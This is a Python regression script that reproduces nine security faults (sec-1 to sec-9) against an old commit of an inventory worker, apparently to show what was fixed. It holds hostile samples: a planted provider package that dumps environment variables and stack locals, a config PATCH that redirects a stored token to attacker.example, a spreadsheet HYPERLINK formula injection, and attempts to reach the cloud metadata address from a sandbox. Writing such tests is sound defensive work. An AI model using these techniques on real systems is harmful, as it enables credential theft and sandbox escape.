"""The cases sec-1 to sec-9 against the code of commit 07e0fda: what each fault was there, by the same input that a test of today refuses.

Run by hand, with a checkout of that commit, as its modules have other names since:
``PYTHONPATH=CHECKOUT PYTHON_OF_ITS_ENVIRONMENT tests/upgrade/trust_before.py``. One line for each case; exit code 0 where every fault is there.
"""

from __future__ import annotations

import json
import os
import pathlib
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import time
import uuid

import msgspec
import psycopg
from cryptography.fernet import Fernet, InvalidToken
from worker.commands import discover
from worker.embedded import running
from worker.redact import Redactor
from worker.settings import Settings
from worker.writer.outcome import Status, Verdict

from api.app import create_app
from providers.collected import Collected
from providers.errors import Outcome
from providers.kubernetes import objects
from providers.records import Resource, Scope
from providers.runner import ScopeReport
from worker import wire
from worker.store import claims
from worker.store.connection import connect
from worker.store.inventory import PostgresInventory
from worker.store.migrate import migrate

CANARY = "hunter2-canary"


def rotation(url: str) -> str:
    """sec-1: keys new,old; GET and PUT of a job; the old key is dropped."""
    old, new = Fernet.generate_key().decode(), Fernet.generate_key().decode()
    made = client(url, old).post("/api/v1/discovery/jobs", json=job(token=CANARY)).json
    both = client(url, f"{new},{old}")
    path = f"/api/v1/discovery/jobs/{made['id']}"
    assert both.put(path, json={"config": {"token": both.get(path).json["config"]["token"]}}).status_code == 200
    with psycopg.connect(url) as connection:
        [config] = connection.execute("select config from discovery_jobs where id = %s", [made["id"]]).fetchone()
    try:
        Fernet(new).decrypt(config["token"]["$fernet"].encode())
    except InvalidToken:
        return "the new key alone opens no secret of the job"
    return ""


def installed_package(url: str) -> str:
    """sec-2: a provider package that is merely installed."""
    with tempfile.TemporaryDirectory() as folder:
        site, told = pathlib.Path(folder, "site"), pathlib.Path(folder, "told")
        info = site / "elder_odd-1.0.dist-info"
        info.mkdir(parents=True)
        (info / "METADATA").write_text("Metadata-Version: 2.1\nName: elder-odd\nVersion: 1.0\n")
        (info / "entry_points.txt").write_text("[elder_worker.providers]\nodd = elder_odd:Odd\n")
        code = f"import os, sys\nopen({str(told)!r}, 'a').write(str(dict(os.environ)))\nframe = sys._getframe()\n"
        code += f"while frame := frame.f_back: open({str(told)!r}, 'a').write(repr(frame.f_locals))\nclass Odd: pass\n"
        (site / "elder_odd.py").write_text(code)
        seen = [command for command in ("providers", "migrate", "run", "api") if imports(command, url, site, told)]
    return f"it reads DATABASE_URL where it is imported by: {', '.join(seen)}" if seen else ""


def imports(command: str, url: str, site: pathlib.Path, told: pathlib.Path) -> bool:
    """True when a command imports the package where it finds the database's address, in the environment or in what calls it."""
    told.write_text("")
    environ = {"PATH": os.environ["PATH"], "PYTHONPATH": f"{site}:{os.environ['PYTHONPATH']}", "DATABASE_URL": url}
    process = subprocess.Popen(
        [sys.executable, "-m", "worker.cli", command], env=environ, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, cwd="/"
    )
    try:
        process.wait(10)
    except subprocess.TimeoutExpired:
        process.terminate()
        process.wait(30)
    return url in told.read_text()


def foreign_scope(url: str) -> str:
    """sec-3: a job of one provider reports a scope of another one, as empty and complete."""
    scope = Scope("aws", "111", "us-east-1", "ec2_instance")
    found = [Resource(f"arn:{n}", "compute", "ec2_instance", f"name {n}") for n in range(3)]
    run(url, "aws", scope, found)
    with psycopg.connect(url) as connection:
        before = connection.execute("select count(*) from entities where is_active").fetchone()
    run(url, "kubernetes", scope, [])
    with psycopg.connect(url) as connection:
        after = connection.execute("select count(*) from entities where is_active").fetchone()
    return f"a job of kubernetes tombstones {before[0] - after[0]} of {before[0]} entities of a job of aws" if after < before else ""


def run(url: str, provider: str, scope: Scope, found: list[Resource]) -> None:
    """One complete run of a new job, by hand. The guard is at 100 %, as it is no part of this."""
    with psycopg.connect(url) as connection:
        connection.execute("insert into organizations (id, name) values (1, 'one') on conflict do nothing")
        connection.execute("update discovery_jobs set enabled = false")
        connection.execute("insert into discovery_jobs (name, provider, config, organization_id) values ('job', %s, '{}', 1)", [provider])
    owner = str(uuid.uuid4())
    with connect(url) as connection:
        [claimed] = claims.claim(connection, owner, "test", 30.0, 1, None)
    inventory = PostgresInventory(lambda: connect(url), claimed, owner, 1.0, lambda _connection, _scope: 1)
    inventory.begin(0, scope)
    inventory.records(0, [msgspec.Raw(wire.encode_resource(resource)) for resource in found])
    inventory.end(wire.ScopeEnd(index=0, outcome=Outcome.COMPLETE, resources=len(found)))
    inventory.finish(Verdict(Status.COMPLETED), None)


def masking(_url: str) -> str:
    """sec-4: pod arguments, probe headers, a custom resource's spec.password, Helm values."""
    probe = {"httpGet": {"httpHeaders": [{"name": "Authorization", "value": f"Bearer {CANARY}"}]}}
    container = {"name": "c", "args": [f"--password={CANARY}"], "livenessProbe": probe}
    objects_of = {
        "pod arguments and probe headers": ("Pod", {"spec": {"containers": [container]}}),
        "spec.password": ("Cluster", {"spec": {"password": CANARY}}),
        "Helm values": ("HelmRelease", {"spec": {"values": {"postgresql": {"auth": {"password": CANARY}}}}}),
    }
    stored = []
    for name, (kind, body) in objects_of.items():
        item = {"metadata": {"name": "n", "namespace": "d", "uid": "u"}, **body}
        resource = objects.resource(item, kind, "cluster", lambda _plural, _namespace, _name: "")
        stored += [name] if CANARY in json.dumps(resource.attributes) else []
    return f"stored in clear: {', '.join(stored)}" if stored else ""


def elsewhere(url: str) -> str:
    """sec-5: PATCH of `server` alone; the test that follows opens the stored config."""
    key = Fernet.generate_key().decode()
    api = client(url, key)
    made = api.post("/api/v1/discovery/jobs", json=job(token=CANARY)).json
    changed = api.patch(f"/api/v1/discovery/jobs/{made['id']}", json={"config": {"server": "https://attacker.example"}})
    with psycopg.connect(url) as connection:
        [config] = connection.execute("select config from discovery_jobs where id = %s", [made["id"]]).fetchone()
    opened = json.loads(Fernet(key).decrypt(config["token"]["$fernet"].encode()))
    leads = changed.status_code == 200 and opened == CANARY
    return f"answered {changed.status_code}; the stored token goes to {config['server']}" if leads else ""


def redactor(_url: str) -> str:
    """sec-6: an error body of 400 KB, ``eyJaaaa-eyJaaaa-...``."""
    body = "eyJaaaa-" * 50_000
    redact, began = Redactor(), time.monotonic()

    def too_long(*_: object) -> None:
        raise TimeoutError

    signal.signal(signal.SIGALRM, too_long)
    signal.alarm(20)
    try:
        redact.text(body)
    except TimeoutError:
        return "the redactor is not done with 400 KB after 20 s"
    finally:
        signal.alarm(0)
    took = time.monotonic() - began
    return f"the redactor takes {took:.0f} s for 400 KB" if took > 2 else ""


def formula(_url: str) -> str:
    """sec-7: a display name ``=HYPERLINK(...)`` in ``discover --format csv``."""
    evil, scope = '=HYPERLINK("http://x.example","y")\x1b[2J', Scope("ldap", "d", "", "ldap_user")
    printer, lines = discover._Csv(), []
    discover._out = lambda text="", **_: lines.append(text)
    sink: Collected = printer
    sink.planned(1)
    sink.begin(scope)
    sink.resources(scope, [Resource("u", "user", "ldap_user", evil)])
    sink.end(ScopeReport(scope, Outcome.COMPLETE, 1))
    printer.finish()
    raw = ',"=HYPERLINK' in "".join(lines) and "\x1b" in "".join(lines)
    return "the cell is the formula itself, with its escape sequence" if raw else ""


def database_socket(url: str) -> str:
    """sec-8: a process without any secret opens the socket of the embedded database, shut in as a job is."""
    code = f"""
import psycopg
from supervisor import kernel, landlock
kernel.renounce_privileges()
assert landlock.confine((), ()) or True
with psycopg.connect({url!r}) as connection:
    connection.execute("update discovery_jobs set name = 'written by a job'")
print("written")
"""
    done = subprocess.run(
        [sys.executable, "-c", code], env={"PYTHONPATH": os.environ["PYTHONPATH"]}, capture_output=True, text=True, check=False, cwd="/"
    )
    return "written without a password" if done.stdout.strip() == "written" else ""


def metadata(_url: str) -> str:
    """sec-9: ctypes and a child process connect to a metadata address, in a network namespace with a listener there."""
    code = """
import ctypes, fcntl, socket, struct, subprocess, sys
from providers.errors import ConfigError
from supervisor import kernel, landlock
from worker.outbound import forbid_metadata
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as control:
    fcntl.ioctl(control, 0x8914, struct.pack("16sH14x", b"lo", 0x41))
    fcntl.ioctl(control, 0x8916, struct.pack("16sHH4s8x", b"lo:1", socket.AF_INET, 0, socket.inet_aton("169.254.169.254")))
server = socket.create_server(("169.254.169.254", 80))
kernel.renounce_privileges()
landlock.confine((), ())
forbid_metadata()
try:
    socket.create_connection(("169.254.169.254", 80), 2)
except (OSError, ConfigError):
    print("Python is refused")
libc = ctypes.CDLL(None)
name = struct.pack("=H", 2) + struct.pack("!H", 80) + socket.inet_aton("169.254.169.254") + bytes(8)
if libc.connect(libc.socket(2, 1, 0), name, 16) == 0:
    print("ctypes connects")
child = "import socket; socket.create_connection(('169.254.169.254', 80), 2)"
if subprocess.run([sys.executable, "-S", "-c", child]).returncode == 0:
    print("a child process connects")
"""
    done = subprocess.run(
        ["unshare", "--user", "--map-root-user", "--net", sys.executable, "-c", code],
        env=dict(os.environ),
        capture_output=True,
        text=True,
        check=False,
        cwd="/",
    )
    told = done.stdout.splitlines()
    return "; ".join(told) if any("connects" in line for line in told) else ""


def client(url: str, keys: str):
    """The API, in this process."""
    return create_app(Settings(database_url=url, elder_secret_keys=tuple(keys.split(",")))).test_client()


def job(**config: str) -> dict[str, object]:
    """The body of a new job of Kubernetes."""
    return {"name": "j", "provider": "kubernetes", "organization_id": 1, "config": {"server": "https://cluster.example", **config}}


CASES = (rotation, installed_package, foreign_scope, masking, elsewhere, redactor, formula, database_socket, metadata)


def main() -> int:
    """Prints what each fault is."""
    folder = pathlib.Path(tempfile.mkdtemp(prefix="elder-before-"))
    faults = []
    try:
        with running(folder, durable=False) as server:
            migrate(server.url())
            with psycopg.connect(server.url()) as connection:
                connection.execute("insert into organizations (id, name) values (1, 'one') on conflict do nothing")
            for number, case in enumerate(CASES, 1):
                faults.append(case(server.url()))
                print(f"sec-{number}: {faults[-1] or 'no fault'}", flush=True)
    finally:
        shutil.rmtree(folder)
    return 0 if all(faults) else 1


if __name__ == "__main__":
    socket.setdefaulttimeout(10)
    sys.exit(main())
